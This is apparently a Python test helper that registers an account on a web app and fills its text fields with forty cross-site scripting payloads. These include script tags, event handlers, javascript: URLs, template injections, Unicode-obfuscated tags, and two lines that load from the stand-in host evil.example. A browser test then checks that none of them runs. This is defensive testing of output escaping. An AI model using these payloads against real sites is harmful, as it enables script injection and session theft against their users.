"""Forty texts that run as a script wherever a page takes text for code. `python -m
tests.hostile.payloads URL` fills a new account with them for the browser test, and says which."""

import json
import sys
from itertools import count
from typing import Any

import httpx

from tests.world import PASSWORD, V1, WEB_ADDRESSES, build_world, text_for

from .making import Texts, content, fill
from .slots import Operation, Schema, slots

RUN = "window.ran=1"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</script>",
    "<script src=//evil.example></script>",
    f"<img src=x onerror={RUN}>",
    "<img src=x onerror=&#119;indow.ran=1>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>">',
    f"<object data=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<form action=javascript:{RUN}><button>",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"[x](javascript:{RUN})",
    f'![x](x"onerror="{RUN})',
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"<%= {RUN} %>",
    f"'-({RUN})-'",
    "</style><style>@import'//evil.example'",
    f'<div style="background:url(javascript:{RUN})">',
    f"\u202e<script>{RUN}</script>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<\u200bscript>{RUN}</script>\u2028",
]
AROUND_AN_ADDRESS = ["", '"onmouseover=', "'><svg/onload=", "javascript:", "</script><script>"]
SHORT = 200  # characters that a line takes: about four payloads
LONG = 2_000  # characters that take all of them
FEW = {"create_feed"}  # of which an account holds only a few
TEMPLATES = {"create_template", "change_template"}  # they refuse a brace that is no variable's
COPIES = 14  # until each of them stood in each line


def payload_texts(copy: int) -> Texts:
    """All of them in a long field, some in a short one: others in each copy and in each field."""
    fields = count()
    formed = text_for("x")

    def make(name: str, schema: Schema) -> str:
        number = next(fields)
        if name in WEB_ADDRESSES:
            part = AROUND_AN_ADDRESS[(copy + number) % len(AROUND_AN_ADDRESS)]
            return f"https://example.com/{part}{RUN}"
        if formed(name, schema) != f"x {name}":
            return formed(name, schema)
        return _as_many_as_fit(copy * 3 + number, schema.get("maxLength", SHORT))

    return make


def _as_many_as_fit(start: int, longest: int) -> str:
    text = ""
    for number in range(len(PAYLOADS)):
        one = PAYLOADS[(start + number) % len(PAYLOADS)]
        if len(text) + len(one) + 1 <= longest:
            text += f"{one} "
    return text.strip()


def fill_with_payloads(client: Any) -> dict[str, str]:
    """Fill an account: long fields once, short ones with others each time. The ids of the first of
    everything come back."""
    ids = build_world(client)
    _fill(client, ids, 0, content())
    short = [
        one for one in content() if one.method == "POST" and _has_lines(one) and one.id not in FEW
    ]
    for copy in range(1, COPIES):
        _fill(client, ids, copy, short)
    return ids


def _fill(client: Any, ids: dict[str, str], copy: int, among: list[Operation]) -> None:
    texts = payload_texts(copy)
    fill(client, ids, texts, [one for one in among if one.id not in TEMPLATES])
    fill(client, ids, _without_braces(texts), [one for one in among if one.id in TEMPLATES])


def _without_braces(texts: Texts) -> Texts:
    return lambda name, schema: texts(name, schema).replace("{", "").replace("}", "")


def _has_lines(operation: Operation) -> bool:
    lines = [slot for slot in slots(operation) if slot.takes_text and slot.place == "body"]
    return any(slot.schema.get("maxLength", SHORT) < LONG for slot in lines)


def main(address: str) -> None:
    email = "payloads@example.com"
    account = {"email": email, "password": PASSWORD, "display_name": PAYLOADS[0]}
    with httpx.Client(base_url=address, timeout=60) as client:
        made = client.post(f"{V1}/auth/register", json=account)
        client.headers["Authorization"] = f"Bearer {made.json()['access_token']}"
        ids = fill_with_payloads(client)
    sys.stdout.write(json.dumps({"email": email, "password": PASSWORD, "ids": ids}))


if __name__ == "__main__":
    main(sys.argv[1])
